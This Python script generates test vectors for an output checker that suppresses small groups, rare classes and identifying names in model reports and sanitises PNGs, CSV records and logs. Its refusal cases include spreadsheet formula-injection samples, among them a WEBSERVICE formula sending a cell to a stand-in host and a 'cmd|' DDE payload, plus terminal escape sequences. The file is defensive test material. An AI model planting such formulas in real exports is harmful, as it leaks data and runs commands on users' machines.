"""Writes vectors/output/: one file per case, the expected outcome in the file. Deterministic; run it from anywhere."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from pathlib import Path
from typing import Any

FOLDER = Path(__file__).parent / "output"
PNG = b"\x89PNG\r\n\x1a\n"


def rule(**changes: Any) -> dict[str, Any]:
    return {"decimals": 2, "max_bytes": 4096, "min_group": 10, "recipients": ["hospital"], **changes}


def group(name: str, records: int, **values: Any) -> dict[str, Any]:
    return {"group": name, "records": records, "values": values}


def table(*groups: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {"by": "size", "groups": list(groups), "name": "by size", "public": True, **changes}


def report(*tables: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {
        "classes": ["0", "1"],
        "format": "strongroom.report.v1",
        "matrices": {"confusion": [[50, 2], [3, 45]]},
        "metrics": {"accuracy": 0.9512345},
        "positive": "1",
        "records": 100,
        "tables": list(tables),
        "task": "classification",
        **changes,
    }


def ordered(table: dict[str, Any]) -> dict[str, Any]:
    return {**table, "groups": sorted(table["groups"], key=lambda g: (g["group"] == "(several)", g["group"]))}


def enforced(*tables: dict[str, Any], **changes: Any) -> dict[str, Any]:
    found = report(
        *sorted(map(ordered, tables), key=lambda t: t["by"]), metrics={"accuracy": 0.95}, decimals=2, min_group=10
    )
    return {"suppressed": any("suppressed" in g for t in tables for g in t["groups"]), **found, **changes}


def hidden(name: str) -> dict[str, Any]:
    return {"group": name, "suppressed": True}


def chunk(kind: bytes, body: bytes = b"", crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + body) if crc is None else crc
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def header(
    width: int = 2, height: int = 2, depth: int = 8, colour: int = 0, rest: tuple[int, int, int] = (0, 0, 0)
) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, *rest))


# One stored block: the same bytes from every zlib.
def stored(raw: bytes) -> bytes:
    return b"\x78\x01\x01" + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF) + raw + struct.pack(">I", zlib.adler32(raw))


LINES = b"\x00\x10\x20\x00\x30\x40"
DATA, END = chunk(b"IDAT", stored(LINES)), chunk(b"IEND")
PLAIN = PNG + header() + DATA + END
# The first line as differences from the pixel before, the second from the pixel above.
OTHERWISE = PNG + header() + chunk(b"IDAT", stored(b"\x01\x10\x10\x02\x20\x20")) + END
CHOICES = chunk(b"IDAT", stored(b"\x00\x00\x01\x00\x01\x00"))
PALETTE = PNG + header(colour=3) + chunk(b"PLTE", bytes(range(6))) + chunk(b"tRNS", b"\x80") + CHOICES + END
GREY = [[value] * 3 for value in (0x10, 0x20, 0x30, 0x40)]
HALF, WHOLE = [127, 128, 128], [3, 4, 5]  # what is half clear is seen half white

BIG, SMALL = group("large", 60, accuracy=0.987654), group("small", 4, accuracy=1.0)

REPORTS: dict[str, tuple[str, str, Any, dict[str, Any], Any]] = {
    "rounded": ("numbers are rounded", "ok", report(), rule(), enforced()),
    "groups-all-large": (
        "groups that are all large enough are shown",
        "ok",
        report(table(BIG, group("middle", 40, n=1))),
        rule(),
        enforced(table(group("large", 60, accuracy=0.99), group("middle", 40, n=1))),
    ),
    "small-group": (
        "a small group is suppressed, and with it the smallest of the others: its records would be the difference",
        "ok",
        report(table(BIG, SMALL, group("middle", 36, accuracy=0.5))),
        rule(),
        enforced(table(group("large", 60, accuracy=0.99), hidden("small"), hidden("middle"))),
    ),
    "small-groups-together-too-small": (
        "two small groups of nine records together take a third with them",
        "ok",
        report(table(BIG, group("a", 4), group("b", 5), group("middle", 31))),
        rule(),
        enforced(table(group("large", 60, accuracy=0.99), hidden("a"), hidden("b"), hidden("middle"))),
    ),
    "small-groups-together-enough": (
        "two small groups of ten records together need no other",
        "ok",
        report(table(group("large", 90), group("a", 4), group("b", 6))),
        rule(),
        enforced(table(group("large", 90), hidden("a"), hidden("b"))),
    ),
    "all-suppressed": (
        "of two groups the small one takes the large one with it",
        "ok",
        report(table(group("large", 96), SMALL)),
        rule(),
        enforced(table(hidden("large"), hidden("small"))),
    ),
    "names-from-the-data": (
        "names that stand in the records are suppressed with their groups",
        "ok",
        report(table(group("Ghent", 60), group("Liège", 3), group("Mons", 37), public=False)),
        rule(),
        enforced(table(group("Ghent", 60), hidden("(several)"), public=False)),
    ),
    "no-grouping-agreed": (
        "a rule with min_group 1 suppresses nothing",
        "ok",
        report(table(group("large", 99), group("small", 1), group("none", 0))),
        rule(min_group=1),
        enforced(table(group("large", 99), group("small", 1), group("none", 0)), min_group=1),
    ),
    "fewer-records-than-a-group": ("a report on nine records", "output.refused", report(records=9), rule(), None),
    "groups-do-not-add-up": (
        "groups that leave out three records would tell of them",
        "output.refused",
        report(table(group("large", 97))),
        rule(),
        None,
    ),
    "groups-more-than-all": (
        "groups with more records than there are",
        "output.refused",
        report(table(group("large", 60), group("middle", 41))),
        rule(),
        None,
    ),
    "two-tables-by-one-column": (
        "bands of one column with different edges tell of what lies between, by their difference",
        "output.refused",
        report(table(group("a", 100)), table(group("b", 100), name="again")),
        rule(min_group=1),
        None,
    ),
    "two-tables-that-divide-almost-alike": (
        "groups of two tables, none of them small, whose difference is one record",
        "output.refused",
        report(
            table(group("a", 50), group("b", 50)),
            table(group("c", 51), group("d", 49), by="age", name="by age"),
        ),
        rule(),
        None,
    ),
    "two-tables-no-grouping-agreed": (
        "two tables where no group is too small",
        "ok",
        report(table(group("a", 100)), table(group("c", 51), group("d", 49), by="age", name="by age")),
        rule(min_group=1),
        enforced(table(group("a", 100)), table(group("c", 51), group("d", 49), by="age", name="by age"), min_group=1),
    ),
    "rare-class": (
        "a class of three records is merged, and with it the smallest of the others; so in the matrices of groups",
        "ok",
        report(
            table(group("all", 100, confusion=[[55, 1, 0, 0], [2, 20, 0, 0], [0, 0, 18, 1], [1, 0, 0, 2]])),
            classes=["a", "b", "c", "HIV"],
            matrices={"confusion": [[55, 1, 0, 0], [2, 20, 0, 0], [0, 0, 18, 1], [1, 0, 0, 2]]},
            positive=None,
        ),
        rule(),
        enforced(
            table(group("all", 100, confusion=[[55, 1, 0], [2, 20, 0], [1, 0, 21]])),
            classes=["a", "b"],
            matrices={"confusion": [[55, 1, 0], [2, 20, 0], [1, 0, 21]]},
            positive=None,
            suppressed=True,
        ),
    ),
    "rare-class-of-two": (
        "of two classes the rare one takes the other with it, and every matrix",
        "ok",
        report(
            table(group("all", 100, accuracy=0.98, confusion=[[95, 2], [0, 3]])),
            matrices={"confusion": [[95, 2], [0, 3]]},
        ),
        rule(),
        enforced(table(group("all", 100, accuracy=0.98)), matrices={}, suppressed=True),
    ),
    "other-predictions": (
        "predictions of none of the classes have the last column, and no name",
        "ok",
        report(matrices={"confusion": [[50, 2, 1], [3, 44, 0], [0, 0, 0]]}),
        rule(),
        enforced(matrices={"confusion": [[50, 2, 1], [3, 44, 0], [0, 0, 0]]}),
    ),
    "classes-that-carry-records": (
        "a class for each record, named as the record",
        "output.refused",
        report(classes=[f"{n}|17.99|10.38" for n in range(65)], matrices={}, positive=None),
        rule(min_group=1),
        None,
    ),
    "class-with-a-long-name": (
        "a name that could carry a record",
        "output.refused",
        report(classes=["0", "1" * 65], positive=None),
        rule(),
        None,
    ),
    "class-twice": ("a class twice", "output.refused", report(classes=["1", "1"]), rule(), None),
    "class-named-as-the-others": (
        "a class may not pass for those merged",
        "output.refused",
        report(classes=["1", "(other)"]),
        rule(),
        None,
    ),
    "positive-that-is-no-class": (
        "a name that could carry a record",
        "output.refused",
        report(positive="Ada"),
        rule(),
        None,
    ),
    "matrix-of-other-classes": (
        "a matrix with more rows than there are classes to merge",
        "output.refused",
        report(matrices={"confusion": [[100, 0, 0, 0], [0] * 4, [0] * 4, [0] * 4]}),
        rule(),
        None,
    ),
    "matrices-of-two-sizes": (
        "a group's matrix that keeps what the overall one merges",
        "output.refused",
        report(table(group("all", 100, confusion=[[97, 0, 0], [0, 0, 0], [0, 0, 3]]))),
        rule(),
        None,
    ),
    "matrix-of-fewer-records": (
        "a matrix that leaves out whose class is rare",
        "output.refused",
        report(matrices={"confusion": [[50, 2], [3, 42]]}),
        rule(),
        None,
    ),
    "matrix-of-groups-alone": (
        "matrices of groups without one over all records, which says what classes are rare",
        "output.refused",
        report(table(group("all", 100, confusion=[[95, 2], [0, 3]])), matrices={}),
        rule(),
        None,
    ),
    "group-name-that-carries-a-record": (
        "a name from the records that is longer than a name may be",
        "output.refused",
        report(table(group("x" * 65, 100), public=False)),
        rule(),
        None,
    ),
    "group-twice": (
        "two groups of one name",
        "output.refused",
        report(table(group("a", 50), group("a", 50))),
        rule(),
        None,
    ),
    "group-named-as-suppressed": (
        "a shown group may not pass for suppressed ones",
        "output.refused",
        report(table(group("(several)", 100))),
        rule(),
        None,
    ),
    "suppressed-with-values": (
        "a suppressed group that has records all the same",
        "output.refused",
        report(table(BIG, {**group("b", 40), "suppressed": True})),
        rule(),
        None,
    ),
    "suppressed-false": (
        "a group that says it is not suppressed",
        "output.refused",
        report(table({"group": "a", "suppressed": False})),
        rule(),
        None,
    ),
    "unknown-member": ("a member that nobody checks", "output.refused", report(rows=[[1, 2, 3]]), rule(), None),
    "text-as-metric": ("a text where a number must be", "output.refused", report(metrics={"a": "Ada"}), rule(), None),
    "metric-too-large": ("a number that could carry a record", "output.refused", report(metrics={"a": 1e16}), rule(), None),
    "metric-name": ("a name that could carry a record", "output.refused", report(metrics={"Ada L.": 1}), rule(), None),
    "matrix-of-fractions": ("a matrix of counts", "output.refused", report(matrices={"m": [[0.5]]}), rule(), None),
    "matrix-not-square": ("a matrix of counts", "output.refused", report(matrices={"m": [[1, 2]]}), rule(), None),
    "negative-count": ("records below nought", "output.refused", report(records=-1), rule(min_group=1), None),
    "text-not-printable": ("a label with a line end", "output.refused", report(classes=["a\nb"]), rule(), None),
    "other-format": ("another format", "output.refused", report(format="strongroom.report.v2"), rule(), None),
    "larger-than-agreed": ("more bytes than agreed", "output.refused", report(), rule(max_bytes=64), None),
}

RAW_REPORTS: dict[str, tuple[str, bytes]] = {
    "not-json": ("bytes that are no JSON", b"\x80"),
    "empty": ("no bytes", b""),
    "member-twice": ("a member twice", b'{"format":"strongroom.report.v1","format":"strongroom.report.v1"}'),
    "not-a-number": ("NaN", json.dumps(report(metrics={"a": float("nan")})).encode()),
    "infinite": ("a number too large for a float", json.dumps(report()).replace("0.9512345", "1e999").encode()),
}

PICTURES: dict[str, tuple[str, str, bytes, list[list[int]] | None]] = {
    "plain": ("a picture of four pixels", "ok", PLAIN, GREY),
    "palette": ("a palette and its transparency", "ok", PALETTE, [HALF, WHOLE, WHOLE, HALF]),
    "metadata": (
        "text, time and resolution are dropped",
        "ok",
        PNG
        + header()
        + chunk(b"tEXt", b"Comment\x00Ada")
        + chunk(b"pHYs", bytes(9))
        + DATA
        + chunk(b"tIME", bytes(7))
        + END,
        GREY,
    ),
    "two-data-chunks": (
        "data in two chunks",
        "ok",
        PNG + header() + chunk(b"IDAT", stored(LINES)[:7]) + chunk(b"IDAT", stored(LINES)[7:]) + END,
        GREY,
    ),
    "compression": ("the same pixels, compressed and filtered otherwise, leave alike", "ok", OTHERWISE, GREY),
    "order-of-the-palette": (
        "the same pixels by a palette in another order, with an entry that no pixel has",
        "ok",
        PNG
        + header(colour=3)
        + chunk(b"PLTE", bytes([3, 4, 5, 9, 9, 9, 0, 1, 2]))
        + chunk(b"tRNS", b"\xff\xff\x80")
        + chunk(b"IDAT", stored(b"\x00\x02\x00\x00\x00\x02"))
        + END,
        [HALF, WHOLE, WHOLE, HALF],
    ),
    "colours-that-are-not-seen": (
        "what is quite clear is white, whatever colour it has",
        "ok",
        PNG + header(1, 2, colour=6) + chunk(b"IDAT", stored(b"\x00Ada\x00\x00\x01\x02\x03\xff")) + END,
        [[255] * 3, [1, 2, 3]],
    ),
    "beyond-the-palette": (
        "a pixel of a colour that the palette does not have",
        "output.refused",
        PNG + header(colour=3) + chunk(b"PLTE", bytes(6)) + DATA + END,
        None,
    ),
    "sixteen-bits": (
        "samples whose lower half nobody sees",
        "output.refused",
        PNG + header(1, 1, depth=16) + chunk(b"IDAT", stored(b"\x00\x10\x01")) + END,
        None,
    ),
    "one-clear-colour": (
        "a grey that is to be clear",
        "output.refused",
        PNG + header() + chunk(b"tRNS", b"\x00\x10") + DATA + END,
        None,
    ),
    "after-the-end": ("bytes after the end", "output.refused", PLAIN + b"Ada", None),
    "no-end": ("no end", "output.refused", PNG + header() + DATA, None),
    "end-with-data": ("an end with data", "output.refused", PNG + header() + DATA + chunk(b"IEND", b"Ada"), None),
    "checksum": ("a wrong checksum", "output.refused", PNG + header() + chunk(b"IDAT", stored(LINES), 0) + END, None),
    "unknown-critical": ("a critical chunk", "output.refused", PNG + header() + chunk(b"IDOT") + DATA + END, None),
    "animation-like-order": (
        "data, palette, data",
        "output.refused",
        PNG + header() + DATA + chunk(b"PLTE", bytes(3)) + END,
        None,
    ),
    "no-data": ("no data", "output.refused", PNG + header() + END, None),
    "header-twice": ("two headers", "output.refused", PNG + header() + header() + DATA + END, None),
    "extra-line": (
        "a line more than the header says",
        "output.refused",
        PNG + header() + chunk(b"IDAT", stored(LINES + b"\x00\x50\x60")) + END,
        None,
    ),
    "after-the-stream": (
        "bytes after the compressed stream",
        "output.refused",
        PNG + header() + chunk(b"IDAT", stored(LINES) + b"Ada") + END,
        None,
    ),
    "filter-unknown": (
        "a filter that there is not",
        "output.refused",
        PNG + header() + chunk(b"IDAT", stored(b"\x07" + LINES[1:])) + END,
        None,
    ),
    "too-wide": ("wider than let through", "output.refused", PNG + header(width=4097) + DATA + END, None),
    "no-height": ("no lines", "output.refused", PNG + header(height=0) + DATA + END, None),
    "interlaced": ("interlaced", "output.refused", PNG + header(rest=(0, 0, 1)) + DATA + END, None),
    "depth": ("a depth that there is not", "output.refused", PNG + header(depth=3) + DATA + END, None),
    "no-palette": ("a palette that is missing", "output.refused", PNG + header(colour=3) + DATA + END, None),
    "palette-too-many": (
        "a palette for grey",
        "output.refused",
        PNG + header() + chunk(b"PLTE", bytes(3)) + DATA + END,
        None,
    ),
    "not-a-png": ("another format", "output.refused", b"GIF89a", None),
}

OTHERS: dict[str, tuple[str, str, str, bytes, dict[str, Any], bytes | None]] = {
    "records": (
        "numbers of a row for each record are rounded, text and whole numbers stand",
        "ok",
        "records",
        b'row,predicted,p\r\n0,"a, b",0.98765\r\n1,c,1e-9\r\n12345,7.0,-0.001\r\n',
        rule(min_group=1),
        b'row,predicted,p\n0,"a, b",0.99\n1,c,0.0\n12345,7.0,0.0\n',
    ),
    "records-grouped": ("records cannot be grouped", "output.refused", "records", b"row\n1\n", rule(), None),
    "records-ragged": ("a longer row", "output.refused", "records", b"row\n1,Ada\n", rule(min_group=1), None),
    "records-empty": ("no header", "output.refused", "records", b"", rule(min_group=1), None),
    "records-control": ("a cell with an escape", "output.refused", "records", b"row\n\x1b[2J\n", rule(min_group=1), None),
    "records-not-utf-8": ("not UTF-8", "output.refused", "records", b"row\n\xff\n", rule(min_group=1), None),
    "records-infinite": ("a number too large", "output.refused", "records", b"row\n1.0e999\n", rule(min_group=1), None),
    "records-formula": (
        "a cell that a spreadsheet runs, and that sends what stands beside it to somebody",
        "output.refused",
        "records",
        b'row,predicted\n0,"=WEBSERVICE(""http://lab.example/?""&A1)"\n',
        rule(min_group=1),
        None,
    ),
    "records-formula-by-sign": (
        "a formula that begins as a number does",
        "output.refused",
        "records",
        b"row,predicted\n0,-1+cmd|x!A0\n",
        rule(min_group=1),
        None,
    ),
    "records-formula-in-header": (
        "a formula as the name of a column",
        "output.refused",
        "records",
        b"row,@SUM(A1)\n0,1\n",
        rule(min_group=1),
        None,
    ),
    "records-tab": ("a formula behind a tab", "output.refused", "records", b"row\n\t=1+1\n", rule(min_group=1), None),
    "records-line-end": (
        "a formula behind a carriage return",
        "output.refused",
        "records",
        b'row\n"\r=1+1"\n',
        rule(min_group=1),
        None,
    ),
    "records-signed-numbers": (
        "signed numbers are no formulas",
        "ok",
        "records",
        b"row,x\n0,-1.5\n1,+2\n2,-3\n",
        rule(min_group=1),
        b"row,x\n0,-1.5\n1,+2\n2,-3\n",
    ),
    "records-quote": ("a quote that does not end", "output.refused", "records", b'row\n"1\n', rule(min_group=1), None),
    "log": (
        "control characters that terminals obey are replaced",
        "ok",
        "log",
        "one\ttwo\n\x1b[31mred\x07 \u202eback\n".encode(),
        rule(min_group=1),
        "one\ttwo\n\ufffd[31mred\ufffd \ufffdback\n".encode(),
    ),
    "log-cut": (
        "a character cut in two is left out",
        "ok",
        "log",
        "aé".encode()[:2] + b"b",
        rule(min_group=1, max_bytes=3),
        b"a",
    ),
    "log-grouped": ("a log cannot be grouped", "output.refused", "log", b"one\n", rule(), None),
    "log-too-large": ("more bytes than agreed", "output.refused", "log", b"one\n", rule(min_group=1, max_bytes=3), None),
    "unknown-kind": ("a kind that nobody knows", "output.refused", "video", b"", rule(), None),
}


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def cases() -> dict[str, dict[str, Any]]:
    found: dict[str, dict[str, Any]] = {}
    for name, (what, expect, wrote, rule_, leaves) in REPORTS.items():
        case = {
            "description": what,
            "expect": expect,
            "kind": "report",
            "rule": rule_,
            "data": b64(json.dumps(wrote).encode()),
        }
        found[f"report-{name}"] = case | ({"leaves_json": leaves} if leaves is not None else {})
    for name, (what, data) in RAW_REPORTS.items():
        found[f"report-{name}"] = {
            "description": what, "expect": "output.refused", "kind": "report", "rule": rule(), "data": b64(data)
        }  # fmt: skip
    for name, (what, expect, data, pixels) in PICTURES.items():
        case = {"description": what, "expect": expect, "kind": "picture", "rule": rule(), "data": b64(data)}
        found[f"picture-{name}"] = case | ({"leaves_pixels": pixels} if pixels is not None else {})
    for name, (what, expect, kind, data, rule_, leaves) in OTHERS.items():
        case = {"description": what, "expect": expect, "kind": kind, "rule": rule_, "data": b64(data)}
        found[name] = case | ({"leaves": b64(leaves)} if leaves is not None else {})
    return found


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.json"):
        old.unlink()
    for name, case in cases().items():
        text = json.dumps(case, ensure_ascii=False, indent=2, sort_keys=True) + "\n"
        (FOLDER / f"{name}.json").write_text(text, encoding="utf-8")
